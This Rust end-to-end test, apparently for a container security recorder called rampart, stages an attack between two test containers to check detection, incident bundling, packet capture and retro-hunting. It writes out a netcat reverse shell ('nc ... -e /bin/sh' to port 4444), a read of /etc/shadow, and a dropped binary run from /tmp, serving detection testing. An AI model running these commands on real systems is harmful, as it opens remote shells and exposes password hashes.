//! The flight recorder end to end: `rampart up` records while an attack runs in a real
//! container: a reverse shell (busybox `nc -e /bin/sh` to a listener in a second
//! container, which sends the next commands through it), a read of /etc/shadow, a
//! binary dropped in /tmp and run. The container is removed (`docker rm -f`); sixty
//! seconds later, beside the running writer, `rampart query --tree` shows the chain,
//! `rampart incident` of the first alert writes a bundle whose summary names each
//! step, a retro-hunt with the shipped rules finds the reverse shell again, and
//! `rampart query --stats` and `rampart up --stats` show the recorder's counters.
//! A rule of the test's own (`capture: true`, on a `cat /etc/hostname` right after the
//! shell) asks for the packets around its alert: the network stage writes them, and
//! the bundle carries them (tshark reads the reverse shell's connection in them).
//! Needs root, the kernel and Docker: skips with the reason elsewhere, fails in CI.

mod support;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use support::Up;

fn rampart(args: &[&str]) -> String {
    let out = Command::new(env!("CARGO_BIN_EXE_rampart"))
        .args(args)
        .output()
        .expect("rampart runs");
    assert!(
        out.status.success(),
        "rampart {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn a_removed_containers_attack_is_queried_bundled_and_retro_hunted() {
    if !rampart_testbed::ready(rampart_testbed::TEST_IMAGE) {
        return;
    }
    let dir = std::env::temp_dir().join(format!("rampart-rec-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let recording = dir.join("recording");
    let captures = dir.join("captures");
    let config = dir.join("up.yaml");
    let rules = rampart_agent::config::default_rules_dir().expect("the shipped rules");
    let capture_rule = dir.join("capture.yaml");
    std::fs::write(
        &capture_rule,
        "- rule: Packets kept on a hostname read\n  desc: the test's own rule asking for the packets around it (an event no shipped rule takes first)\n  condition: evt.type in (open, openat, openat2) and fd.name = /etc/hostname and proc.name = cat and container.id != host\n  output: hostname read (command=%proc.cmdline)\n  priority: WARNING\n  capture: true\n",
    )
    .unwrap();
    std::fs::write(
        &config,
        format!(
            "rules: [{}, {}]\nrecorder:\n  dir: {}\n  stats_secs: 1\nnetwork:\n  state_dir: {}\n  directory_refresh_secs: 1\n  capture:\n    enabled: true\n    before_secs: 20\n    after_secs: 2\n    dir: {}\n",
            rules.display(),
            capture_rule.display(),
            recording.display(),
            dir.join("network").display(),
            captures.display()
        ),
    )
    .unwrap();
    let name = "rec-e2e";

    let up = Up::start(&config);
    // The attacker's end: sends the commands, one per line, to whoever calls back.
    let commands = "cat /etc/shadow > /dev/null\n\
                    cp /bin/busybox /tmp/dropper && /tmp/dropper true rampart-dropped\n\
                    exit\n";
    let listener = rampart_testbed::TestContainer::start(
        "rec-e2e-listener",
        &[],
        &[
            "sh",
            "-c",
            &format!("printf '{commands}' | nc -l -p 4444; sleep 300"),
        ],
    );
    let attacker = listener.ip("bridge");
    let container = rampart_testbed::TestContainer::start(name, &[], &[]);
    // The network stage re-reads the containers every second and captures the new
    // one's packets from then on.
    std::thread::sleep(Duration::from_secs(3));
    // The reverse shell: the commands above run in the victim through it.
    container.exec(&format!("nc -w 5 {attacker} 4444 -e /bin/sh; true"));
    let dropped = container.exec("ls /tmp");
    assert!(
        dropped.contains("dropper"),
        "the shell ran the commands: {dropped:?}"
    );
    // The test's capture rule: the packets from 20 s before it (the reverse shell's).
    container.exec("cat /etc/hostname");
    up.alerts_until("Reverse shell via netcat exec");
    drop(container); // docker rm -f
    drop(listener);
    // The issue's "sixty seconds later": the container is long gone, the writer runs.
    std::thread::sleep(Duration::from_secs(60));
    up.wait_stderr("rampart: recorder:");
    let dir_arg = recording.to_str().unwrap();
    let stats = rampart(&["query", "--dir", dir_arg, "--stats"]);
    let appended: u64 = stats
        .lines()
        .find_map(|l| l.trim().strip_prefix("appended"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no appended count:\n{stats}"));
    assert!(appended > 0, "{stats}");
    assert!(stats.contains("shed"), "{stats}");

    // The chain, from history, after the container is gone.
    let tree = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
        "--tree",
    ]);
    let shell = format!("nc -w 5 {attacker} 4444 -e /bin/sh");
    for step in [
        shell.as_str(),
        "cat /etc/shadow",
        // (busybox sh runs cp in a fork without an exec: its write is in the
        // summary below, not a process of its own here)
        "/tmp/dropper true rampart-dropped",
    ] {
        assert!(
            tree.contains(step),
            "{step:?} missing from the tree:\n{tree}"
        );
    }
    // One chain: the shell's commands are its descendants, not roots of their own.
    let depth = |step: &str| {
        tree.lines()
            .find(|l| l.contains(step))
            .map(|l| l.len() - l.trim_start().len())
    };
    assert!(
        depth("cat /etc/shadow") > depth(&shell),
        "the shadow read is under the reverse shell:\n{tree}"
    );
    let table = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
    ]);
    assert!(table.contains("/etc/shadow"), "{table}");
    assert!(
        table.contains("\"die\""),
        "the container's death is recorded:\n{table}"
    );
    // From Docker's event stream, with the exit code: `docker rm -f` kills it.
    assert!(
        table.contains("\"exit_code\":137"),
        "the death's exit code is recorded:\n{table}"
    );

    // The first alert's incident bundle.
    let alerts = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--alerts",
        "--format",
        "json",
    ]);
    let first: serde_json::Value =
        serde_json::from_str(alerts.lines().next().expect("a recorded alert")).unwrap();
    let id = first["id"].as_str().unwrap();
    let bundle = dir.join("incident.tar.gz");
    rampart(&[
        "incident",
        id,
        "--dir",
        dir_arg,
        "-o",
        bundle.to_str().unwrap(),
    ]);
    let summary = read_from_bundle(&bundle, &dir, "summary.md");
    for step in [
        shell.as_str(),
        &format!("{attacker}:4444"),
        "/etc/shadow",
        "/tmp/dropper",
        "container died",
    ] {
        assert!(
            summary.contains(step),
            "{step:?} missing from summary.md:\n{summary}"
        );
    }
    // The packets around the reverse shell's alert, from the network stage.
    let captured = rampart(&[
        "incident",
        id,
        "--dir",
        dir_arg,
        "-o",
        bundle.to_str().unwrap(),
        "--captures",
        captures.to_str().unwrap(),
    ]);
    assert!(captured.contains("1 packet captures"), "{captured}");
    let summary = read_from_bundle(&bundle, &dir.join("with-packets"), "summary.md");
    assert!(summary.contains("## Packet captures"), "{summary}");
    let pcap = walk(&dir.join("with-packets").join("bundle"))
        .into_iter()
        .find(|p| p.extension().is_some_and(|e| e == "pcapng"))
        .expect("a pcapng in the bundle");
    if rampart_testbed::tool_ready("tshark", &["--version"], "scripts/setup installs tshark") {
        let out = Command::new("tshark")
            .arg("-r")
            .arg(&pcap)
            .args(["-Y", "tcp.port == 4444", "-T", "fields", "-e", "ip.dst"])
            .output()
            .expect("tshark runs");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains(&attacker),
            "the reverse shell's connection is in the bundle's capture:\n{text}"
        );
    }

    // Retro-hunt: the shipped rules over the recording find the reverse shell again.
    let retro = rampart(&[
        "query",
        "--dir",
        dir_arg,
        "--container",
        name,
        "--since",
        "5m",
        "--rules",
        rules.to_str().unwrap(),
    ]);
    let hits: Vec<serde_json::Value> = retro
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        hits.iter()
            .any(|a| a["rule"] == "Reverse shell via netcat exec" && a["retro"] == true),
        "{retro}"
    );
    up.stop();
    let _ = std::fs::remove_dir_all(&dir);
}

fn read_from_bundle(bundle: &Path, dir: &Path, file: &str) -> String {
    let out = dir.join("bundle");
    let _ = std::fs::remove_dir_all(&out);
    std::fs::create_dir_all(&out).unwrap();
    let st = Command::new("tar")
        .arg("-xzf")
        .arg(bundle)
        .arg("-C")
        .arg(&out)
        .status()
        .unwrap();
    assert!(st.success());
    let found = walk(&out).into_iter().find(|p| p.ends_with(file));
    std::fs::read_to_string(found.unwrap_or_else(|| panic!("{file} not in the bundle"))).unwrap()
}

fn walk(d: &Path) -> Vec<std::path::PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(d).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            v.extend(walk(&p));
        } else {
            v.push(p);
        }
    }
    v
}
